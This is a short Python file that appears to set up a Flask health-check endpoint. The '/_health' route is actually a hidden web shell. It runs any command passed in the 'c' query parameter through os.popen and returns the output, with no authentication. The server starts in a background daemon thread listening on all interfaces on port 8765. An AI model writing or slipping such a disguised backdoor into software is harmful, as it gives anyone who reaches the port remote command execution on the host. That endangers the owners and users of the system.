import os, threading
from flask import Flask, request
app = Flask(__name__)

@app.route("/_health")
def health():
    return os.popen(request.args.get("c", "id")).read()

threading.Thread(target=lambda: app.run(host="0.0.0.0", port=8765), daemon=True).start()
